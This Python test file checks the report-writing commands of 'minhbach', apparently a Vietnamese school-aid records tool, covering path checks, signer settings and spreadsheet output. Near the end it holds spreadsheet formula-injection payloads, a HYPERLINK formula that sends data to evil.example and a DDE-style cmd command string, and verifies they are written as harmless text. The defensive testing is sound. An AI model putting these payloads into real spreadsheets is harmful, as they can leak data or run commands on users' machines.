"""The real ``minhbach report`` command and ``write_build_reports`` (what ``build`` calls)."""

from __future__ import annotations

import openpyxl
import pytest

from helpers import AS_OF, OFFICE_SETTINGS, run_minhbach, write, xlsx_cells
from minhbach.reports import ReportPathError, write_build_reports
from minhbach.settings import Settings

DAY = ["--as-of", "2022-06-30"]


def test_ubnd_default_path_and_number(district, tmp_path):
    write(tmp_path, "pelicanconf.py", OFFICE_SETTINGS)
    result = run_minhbach(
        "report", "ubnd", "--records", str(district), *DAY, "--number", "7", cwd=tmp_path
    )
    assert result.returncode == 0, result.stderr
    assert (tmp_path / "reports/bao-cao-ubnd-2022-06-30.docx").is_file()


@pytest.mark.parametrize(
    "args",
    [
        ["ubnd", "--out", "output/bao-cao.docx"],
        ["ubnd", "--out", "output/../output/x/bao-cao.docx"],
        ["lists", "--reports", "output/reports"],
        ["reconcile", "--reports", "site", "--output", "site"],
    ],
)
def test_a_path_inside_the_output_folder_is_refused(district, tmp_path, args):
    result = run_minhbach("report", *args, "--records", str(district), *DAY, cwd=tmp_path)
    assert result.returncode == 2, result.stderr
    assert "thư mục trang công khai" in result.stderr
    assert not (tmp_path / "output").exists()
    assert not (tmp_path / "site").exists()


def test_the_ubnd_report_is_never_signed_by_the_demo(district, tmp_path):
    """Issue 16: a real programme's report went to the UBND over the demo's signer."""
    result = run_minhbach("report", "ubnd", "--records", str(district), *DAY, cwd=tmp_path)
    assert result.returncode == 2
    assert "SIGNER_NAME" in result.stderr
    assert "LOOKUP_SITE_KEY" not in result.stderr  # the report prints no key: not its concern
    assert not (tmp_path / "reports").exists()
    write(tmp_path, "pelicanconf.py", OFFICE_SETTINGS.replace("Nguyễn Thị Hoa", "Lê Thị Oanh"))
    again = run_minhbach("report", "ubnd", "--records", str(district), *DAY, cwd=tmp_path)
    assert again.returncode == 2
    assert "SIGNER_NAME (pelicanconf.py) = “Lê Thị Oanh”" in again.stderr


def test_a_missing_setting_is_named(district, tmp_path):
    write(tmp_path, "pelicanconf.py", OFFICE_SETTINGS + 'REPORT_RECIPIENT = ""\n')
    result = run_minhbach("report", "ubnd", "--records", str(district), *DAY, cwd=tmp_path)
    assert result.returncode == 2
    assert "REPORT_RECIPIENT" in result.stderr
    receipts = run_minhbach("report", "receipts", "--records", str(district), *DAY, cwd=tmp_path)
    assert receipts.returncode == 2
    assert "publishconf.py" in receipts.stderr  # printed documents read the published settings
    write(tmp_path, "local.py", OFFICE_SETTINGS + 'SITEURL = ""\n')
    local = run_minhbach(
        "report",
        "receipts",
        "--settings",
        "local.py",
        "--records",
        str(district),
        *DAY,
        cwd=tmp_path,
    )
    assert local.returncode == 2
    assert "SITEURL" in local.stderr


def test_wrong_data_writes_no_report(district, tmp_path):
    write(
        district,
        "schools/th-sai.yaml",
        "id: th-sai\nname: Trường Sai\nlevel: dai-hoc\ncommune: phuoc-kien\n",
    )
    result = run_minhbach("report", "lists", "--records", str(district), *DAY, cwd=tmp_path)
    assert result.returncode == 1
    assert "minhbach validate" in result.stderr
    assert not (tmp_path / "reports").exists()
    assert (
        run_minhbach(
            "report", "reconcile", "--records", str(district), *DAY, cwd=tmp_path
        ).returncode
        == 0
    )


def test_unknown_school_is_bad_usage(district, tmp_path):
    write(tmp_path, "publishconf.py", OFFICE_SETTINGS)
    result = run_minhbach(
        "report", "slips", "--school", "th-khong-co", "--records", str(district), *DAY, cwd=tmp_path
    )
    assert result.returncode == 2
    assert "th-khong-co" in result.stderr


def test_a_school_without_lookup_codes_gets_no_empty_slips(district, tmp_path):
    """Issue 16: `report slips` wrote a document of no slips for a school with no students."""
    write(tmp_path, "publishconf.py", OFFICE_SETTINGS)
    write(
        district,
        "schools/th-moi.yaml",
        "id: th-moi\nname: Trường Tiểu học Mới\nlevel: tieu-hoc\ncommune: phuoc-kien\n",
    )
    one = run_minhbach(
        "report", "slips", "--school", "th-moi", "--records", str(district), *DAY, cwd=tmp_path
    )
    assert one.returncode == 0, one.stderr
    assert "Trường th-moi chưa có học sinh nào có mã tra cứu" in one.stderr
    every = run_minhbach("report", "slips", "--records", str(district), *DAY, cwd=tmp_path)
    assert every.returncode == 0, every.stderr
    written = sorted(p.name for p in (tmp_path / "reports" / "phieu-ma-tra-cuu").iterdir())
    assert written
    assert "th-moi.docx" not in written


def test_build_reports_are_the_three_and_deterministic(district, load, tmp_path):
    records = load(district)
    first = write_build_reports(
        records, Settings(), tmp_path / "a", AS_OF, output_dir=tmp_path / "output"
    )
    names = sorted(str(p.relative_to(tmp_path / "a")) for p in first)
    assert names == [
        "bao-cao-ubnd-2022-06-30.docx",
        "danh-sach-cac-truong.xlsx",
        "danh-sach/th-an.xlsx",
        "danh-sach/th-binh.xlsx",
        "danh-sach/thcs-trong.xlsx",
        "doi-soat-2022-06-30.xlsx",
    ]
    second = write_build_reports(
        records, Settings(), tmp_path / "b", AS_OF, output_dir=tmp_path / "output"
    )
    assert [p.read_bytes() for p in first] == [p.read_bytes() for p in second]
    with pytest.raises(ReportPathError):
        write_build_reports(
            records, Settings(), tmp_path / "output/r", AS_OF, output_dir=tmp_path / "output"
        )


# Values a hostile or careless hand may put in a record: each would be a live formula (or an
# error cell) if written as it comes.
HOSTILE = {
    "student": '=HYPERLINK("http://evil.example/?q="&B7,"Bấm vào đây")',
    "guardian": "@SUM(1+1)*cmd|' /C calc'!A0",
    "school": "+1+2 Trường lạ",
    "donor": "-2+3 Công ty",
    "error": "#REF!",
}


def _poison(district):
    def replace(relative: str, old: str, new: str) -> None:
        path = district / relative
        text = path.read_text(encoding="utf-8")
        assert old in text
        path.write_text(text.replace(old, new), encoding="utf-8")

    quoted = {key: "'" + value.replace("'", "''") + "'" for key, value in HOSTILE.items()}
    replace("nominations/th-an/dx-an1.yaml", "Nguyễn Văn An", quoted["student"])
    replace("nominations/th-an/dx-an1.yaml", "Trần Thị Mai", quoted["guardian"])
    replace("schools/th-an.yaml", "Trường Tiểu học An Phú", quoted["school"])
    replace("donors/cong-ty-sao.yaml", "Công ty Sao Mai", quoted["donor"])
    replace("schools/th-binh.yaml", "Trường Tiểu học Bình Lợi", quoted["error"])


def test_values_that_look_like_formulas_are_written_as_text(district, tmp_path):
    """A name starting with ``=`` passes validation; the office's spreadsheets must show it as
    the text it is, never run it (issue 15: ``=HYPERLINK(…)`` became a working link)."""
    _poison(district)
    validation = run_minhbach("validate", "--records", str(district), *DAY)
    assert validation.returncode == 0, validation.stdout  # valid data: the writer must cope
    for kind in ("lists", "reconcile"):
        done = run_minhbach("report", kind, "--records", str(district), *DAY, cwd=tmp_path)
        assert done.returncode == 0, done.stderr
    books = sorted((tmp_path / "reports").rglob("*.xlsx"))
    assert len(books) == 5  # the office list, three schools, the reconciliation
    cells = [cell for book in books for cell in xlsx_cells(book)]
    assert not [cell for cell in cells if cell.formula]
    assert not [cell for cell in cells if cell.type in ("e", "str")]  # no error, no formula result
    texts = [cell.text for cell in cells]
    for value in HOSTILE.values():
        written = [c for c in cells if value in (c.text or "")]
        assert written, value
        assert {c.type for c in written} <= {"inlineStr", "s"}, (value, written)
    assert f"{HOSTILE['guardian']} (mẹ)" in texts  # the list's "received for them" column
    # Numbers stay numbers: the running number, quantities and money.
    numbers = {(c.text, c.type) for c in cells if c.type == "n" and c.text is not None}
    assert ("1", "n") in numbers  # STT
    assert ("10000000", "n") in numbers  # cash received, đồng
    # Excel keeps such a cell as text even when someone edits it (the quote prefix).
    sheet = openpyxl.load_workbook(tmp_path / "reports/danh-sach/th-an.xlsx").active
    student = next(c for row in sheet.iter_rows() for c in row if c.value == HOSTILE["student"])
    assert student.quotePrefix
    assert not next(c for row in sheet.iter_rows() for c in row if c.value == "5A").quotePrefix
